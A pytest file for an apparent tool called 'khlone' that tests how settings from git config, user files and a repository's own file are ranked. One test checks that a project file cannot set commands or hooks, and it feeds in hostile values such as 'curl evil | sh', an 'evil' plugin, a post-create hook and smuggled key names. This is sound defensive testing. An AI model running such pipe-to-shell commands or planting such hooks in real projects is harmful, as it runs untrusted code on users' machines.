"""A setting comes from the place that is nearest, and a repository's own file sets nothing that runs or leads away."""

from __future__ import annotations

import os
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from khlone import discovery, git_config, process, settings
from khlone.errors import InvalidSetting, StateUnsafe
from khlone.settings import PROJECT_FILE, Settings
from tests.support import Git, write


def load(where: Path, environment: Mapping[str, str] | None = None) -> Settings:
    """The settings as a command in that folder sees them."""
    known = dict(os.environ) | dict(environment or {})
    found = discovery.discover(where, known)
    return settings.load(
        common_dir=found.common_dir,
        git_dir=found.git_dir,
        cwd=found.worktree or found.common_dir,
        worktree=found.worktree,
        environment=known,
    )


def user_file(text: str) -> Path:
    path = Path(os.environ["XDG_CONFIG_HOME"], "khlone", "config.toml")
    write(path.parent, {path.name: text})
    return path


# -- which source wins ---------------------------------------------------------------------


def test_without_any_setting_the_defaults_are_in_force(repository: Path) -> None:
    found = load(repository)

    assert found.values == {}
    assert (found.agent, found.worktree, found.target) == ("claude", "{parent}/{repository}.clones/{folder}", None)
    assert found.durable
    assert not found.gate_required
    assert not found.allow_network_file_system
    assert not found.gpg_sign


def test_git_config_beats_the_project_file_which_beats_the_users(repository: Path, git: Git) -> None:
    user_file('agent = "user"\n')
    seen = [load(repository).agent]

    write(repository, {PROJECT_FILE: 'agent = "project"\n'})
    seen.append(load(repository).agent)
    git("config", "--global", "khlone.agent", "global", cwd=repository)
    seen.append(load(repository).agent)
    git("config", "khlone.agent", "local", cwd=repository)
    seen.append(load(repository).agent)

    assert seen == ["user", "project", "global", "local"]


def test_the_last_value_of_git_wins_as_it_does_for_git(repository: Path, git: Git) -> None:
    git("config", "--add", "khlone.agent", "first", cwd=repository)
    git("config", "--add", "khlone.agent", "last", cwd=repository)

    assert load(repository).agent == git("config", "khlone.agent", cwd=repository).strip() == "last"


@pytest.mark.parametrize("name", ["khlone.allowNetworkFileSystem", "KHLONE.ALLOWNETWORKFILESYSTEM"])
def test_keys_of_git_are_read_whatever_their_case(repository: Path, git: Git, name: str) -> None:
    git("config", name, "true", cwd=repository)

    assert load(repository).allow_network_file_system


@pytest.mark.parametrize("key", ["allowNetworkFileSystem", "allow_network_file_system", "allow-network-file-system"])
def test_keys_of_a_file_are_read_in_every_usual_spelling(repository: Path, key: str) -> None:
    user_file(f"{key} = true\n")

    assert load(repository).allow_network_file_system


def test_the_same_keys_work_in_git_and_in_a_file(repository: Path, git: Git) -> None:
    user_file(
        'agent = "a"\nworktree = "/w/{folder}"\ntarget = "t"\ndurable = false\nplugins = ["p", "q"]\n'
        '[gate]\nrequired = true\nTests = "make test"\n[limits]\nsessions = 3\n[trash]\nage = "30d"\n'
    )
    from_file = load(repository)
    for key, value in from_file.values.items():
        git("config", f"khlone.{key}", value, cwd=repository)
    user_file("")

    assert load(repository).values == from_file.values
    assert from_file.values["gate.tests"] == "make test"
    assert from_file.values["plugins"] == "p q"
    assert from_file.values["limits.sessions"] == "3"


# -- what a repository's own file may set --------------------------------------------------


def test_a_projects_file_sets_what_is_harmless(repository: Path) -> None:
    write(
        repository,
        {
            PROJECT_FILE: 'agent = "a"\ntarget = "t"\ndurable = false\n[gate]\nrequired = true\n'
            '[limits]\nsessions = 2\n[trash]\nage = "1d"\n'
        },
    )

    assert set(load(repository).values) == {
        "agent",
        "target",
        "durable",
        "gate.required",
        "limits.sessions",
        "trash.age",
    }


@pytest.mark.parametrize(
    "text",
    [
        'worktree = "/tmp/{folder}"',
        'plugins = "evil"',
        "allow_network_file_system = true",
        '[gate]\ntests = "curl evil | sh"',
        '"gate.tests" = "evil"',
        '"gate.required.x" = "evil"',
        'Worktree = "/tmp"',
        '"agent\\n" = "evil"',
        '"worktree" = "/tmp"',
        '[hooks]\npost-create = "evil"',
    ],
)
def test_a_projects_file_sets_nothing_that_runs_or_leads_away(repository: Path, text: str) -> None:
    write(repository, {PROJECT_FILE: text})

    assert load(repository).values == {}


def test_a_projects_file_is_that_of_the_worktree_one_is_in(repository: Path, git: Git, tmp_path: Path) -> None:
    git("worktree", "add", "-q", str(tmp_path / "linked"), cwd=repository)
    write(repository, {PROJECT_FILE: 'agent = "main"\n'})
    write(tmp_path / "linked", {PROJECT_FILE: 'agent = "linked"\n'})

    assert (load(repository).agent, load(repository / "src").agent) == ("main", "main")
    assert load(tmp_path / "linked").agent == "linked"


def test_a_projects_file_that_is_a_link_is_not_read_and_told(repository: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere.toml").write_text('agent = "a"\n')
    (repository / PROJECT_FILE).symlink_to(tmp_path / "elsewhere.toml")

    found = load(repository)

    assert found.agent != "a"
    with pytest.raises(StateUnsafe, match="symbolic link"):
        found.require_whole()


# -- values --------------------------------------------------------------------------------

BOOLEANS = ["true", "TRUE", "yes", "on", "1", "2", "-1", "false", "No", "off", "0", "00", ""]


@pytest.mark.parametrize("value", BOOLEANS)
def test_a_boolean_is_read_as_git_reads_it(repository: Path, git: Git, value: str) -> None:
    git("config", "khlone.durable", value, cwd=repository)
    git("config", "commit.gpgSign", value, cwd=repository)

    as_git = git("config", "--type=bool", "khlone.durable", cwd=repository).strip() == "true"

    assert load(repository).durable == as_git
    assert load(repository).gpg_sign == as_git


def test_a_key_without_a_value_is_true_as_it_is_for_git(repository: Path, git: Git) -> None:
    with open(repository / ".git" / "config", "a") as stream:
        stream.write("[khlone]\n\tallowNetworkFileSystem\n\tdurable =\n")

    found = load(repository)

    assert found.allow_network_file_system
    assert not found.durable


def test_a_boolean_that_is_none_is_named_and_asks_for_more_rather_than_less(repository: Path, git: Git) -> None:
    git("config", "khlone.durable", "perhaps", cwd=repository)
    found = load(repository)

    with pytest.raises(InvalidSetting) as caught:
        found.require_whole()

    assert found.durable
    assert [str(one) for one in found.faults()] == [str(caught.value)]
    assert "khlone.durable" in str(caught.value)
    assert "perhaps" in str(caught.value)
    assert "khlone.durable" in str(caught.value.hint)


@pytest.mark.parametrize("content", [b"agent = ", b"\xff = 1\n", b"[gate\n", b"a = 1\na = 2\n"])
@pytest.mark.parametrize("which", ["project", "user"])
def test_a_file_that_cannot_be_read_is_named(repository: Path, which: str, content: bytes) -> None:
    path = repository / PROJECT_FILE if which == "project" else user_file("")
    path.write_bytes(content)

    with pytest.raises(InvalidSetting) as caught:
        load(repository).require_whole()

    assert str(path) in str(caught.value)


def test_a_file_that_may_not_be_read_is_told_and_not_left_out(
    repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = user_file("[gate]\nrequired = true\n")

    def refuse(*_: object) -> bytes:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(settings, "read_regular", refuse)

    with pytest.raises(InvalidSetting, match="permission denied"):
        load(repository).require_whole()


def test_a_git_configuration_that_git_cannot_read_is_told(repository: Path) -> None:
    with open(repository / ".git" / "config", "a") as stream:
        stream.write('[khlone]\n\tagent = "unclosed\n')

    with pytest.raises(InvalidSetting, match="bad config line"):
        load(repository)


def test_undecodable_bytes_in_a_value_survive(repository: Path) -> None:
    with open(repository / ".git" / "config", "ab") as stream:
        stream.write(b"[khlone]\n\tworktree = /caf\xe9/{folder}\n")

    assert os.fsencode(load(repository).worktree) == b"/caf\xe9/{folder}"


# -- from where git takes its own ----------------------------------------------------------


def test_a_value_given_to_git_on_the_command_line_beats_all(repository: Path, git: Git) -> None:
    git("config", "khlone.agent", "local", cwd=repository)
    git("config", "alias.variables", '!printf "%s" "$GIT_CONFIG_PARAMETERS"', cwd=repository)
    given = git("-c", "khlone.agent=given", "-c", "khlone.target=it's", "variables", cwd=repository)

    found = load(repository, {"GIT_CONFIG_PARAMETERS": given})

    assert (found.agent, found.target) == ("given", "it's")


def test_values_given_by_variables_are_read(repository: Path) -> None:
    given = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "khlone.agent", "GIT_CONFIG_VALUE_0": "counted"}

    assert load(repository, given).agent == "counted"


def test_a_repository_that_only_a_variable_leads_to_is_the_one_that_is_read(
    repository: Path, git: Git, tmp_path: Path
) -> None:
    git("config", "khlone.agent", "meant", cwd=repository)
    (tmp_path / "work").mkdir()

    found = load(tmp_path / "work", {"GIT_DIR": str(repository / ".git"), "GIT_WORK_TREE": str(tmp_path / "work")})

    assert found.agent == "meant"


def test_variables_that_a_hook_was_given_do_not_lead_astray(repository: Path, git: Git, tmp_path: Path) -> None:
    git("init", "-q", str(tmp_path / "other"), cwd=tmp_path)
    git("config", "khlone.agent", "other", cwd=tmp_path / "other")
    git("config", "khlone.agent", "meant", cwd=repository)

    known = dict(os.environ)
    found = discovery.discover(repository, known)
    seen = settings.load(
        common_dir=found.common_dir,
        git_dir=found.git_dir,
        cwd=repository,
        worktree=repository,
        environment={**known, "GIT_DIR": str(tmp_path / "other" / ".git"), "GIT_CONFIG": "/dev/null"},
    )

    assert seen.agent == "meant"


def in_global(text: str, repository: Path, tmp_path: Path) -> None:
    with open(os.environ["GIT_CONFIG_GLOBAL"], "a") as stream:
        stream.write(text)


def in_local(text: str, repository: Path, tmp_path: Path) -> None:
    with open(repository / ".git" / "config", "a") as stream:
        stream.write(text)


def in_included(text: str, repository: Path, tmp_path: Path) -> None:
    (tmp_path / "included").write_text(text)
    in_local(f"[include]\n\tpath = {tmp_path}/included\n", repository, tmp_path)


def in_included_for_this_repository(text: str, repository: Path, tmp_path: Path) -> None:
    (tmp_path / "included").write_text(text)
    in_global(f'[includeIf "gitdir:{repository}/"]\n\tpath = {tmp_path}/included\n', repository, tmp_path)


def in_worktree(text: str, repository: Path, tmp_path: Path) -> None:
    in_local("[extensions]\n\tworktreeConfig = true\n", repository, tmp_path)
    (repository / ".git" / "config.worktree").write_text(text)


def in_home(text: str, repository: Path, tmp_path: Path) -> None:
    os.environ.pop("GIT_CONFIG_GLOBAL")
    Path(os.environ["HOME"], ".gitconfig").write_text(text)


def in_xdg(text: str, repository: Path, tmp_path: Path) -> None:
    os.environ.pop("GIT_CONFIG_GLOBAL")
    write(Path(os.environ["XDG_CONFIG_HOME"]), {"git/config": text})


def in_xdg_without_a_home(text: str, repository: Path, tmp_path: Path) -> None:
    in_xdg(text, repository, tmp_path)
    os.environ.pop("HOME")


def in_default_xdg(text: str, repository: Path, tmp_path: Path) -> None:
    os.environ.pop("GIT_CONFIG_GLOBAL")
    os.environ.pop("XDG_CONFIG_HOME")
    write(Path(os.environ["HOME"]), {".config/git/config": text})


def in_system(text: str, repository: Path, tmp_path: Path) -> None:
    os.environ.pop("GIT_CONFIG_NOSYSTEM")
    os.environ["GIT_CONFIG_SYSTEM"] = str(tmp_path / "system")
    (tmp_path / "system").write_text(text)


def in_system_that_is_not_switched_off(text: str, repository: Path, tmp_path: Path) -> None:
    in_system(text, repository, tmp_path)
    os.environ["GIT_CONFIG_NOSYSTEM"] = "0"


PLACES = [
    in_global,
    in_local,
    in_included,
    in_included_for_this_repository,
    in_worktree,
    in_home,
    in_xdg,
    in_xdg_without_a_home,
    in_default_xdg,
    in_system,
    in_system_that_is_not_switched_off,
]


@pytest.fixture
def environment_is_put_back() -> object:
    before = dict(os.environ)
    yield
    os.environ.clear()
    os.environ.update(before)


@pytest.mark.usefixtures("environment_is_put_back")
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize(
    "text", ["[khlone]\n\tagent = here\n", "[KHLONE]\n\tAgent = here\n", "[Commit]\n\tGpgSign\n[khlone]agent=here\n"]
)
def test_the_answer_without_git_is_that_of_git_wherever_a_value_stands(
    repository: Path, tmp_path: Path, place: object, text: str
) -> None:
    assert callable(place)
    place(text, repository, tmp_path)

    found = load(repository)

    assert found.agent == "here"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(git_config, "read", lambda *_: None)
        assert load(repository) == found


def test_git_is_not_asked_where_no_file_holds_a_word_of_interest(
    repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.setattr(git_config, "read", lambda *_: None)
        as_git = load(repository)
    monkeypatch.setattr(settings, "_git_config", None)
    monkeypatch.setattr(process, "git_executable", lambda: "/usr/bin/git")
    monkeypatch.setattr(sys, "platform", "linux")

    assert load(repository) == as_git


@pytest.mark.parametrize(("platform", "git"), [("darwin", "/usr/bin/git"), ("linux", "/opt/homebrew/bin/git")])
def test_git_is_asked_where_its_own_files_may_lie_elsewhere(
    repository: Path, monkeypatch: pytest.MonkeyPatch, platform: str, git: str
) -> None:
    asked = []

    def ask(*_: object) -> list[tuple[str, str]]:
        asked.append("git")
        return []

    monkeypatch.setattr(sys, "platform", platform)
    monkeypatch.setattr(process, "git_executable", lambda: git)
    monkeypatch.setattr(settings, "_git_config", ask)

    load(repository)

    assert asked == ["git"]
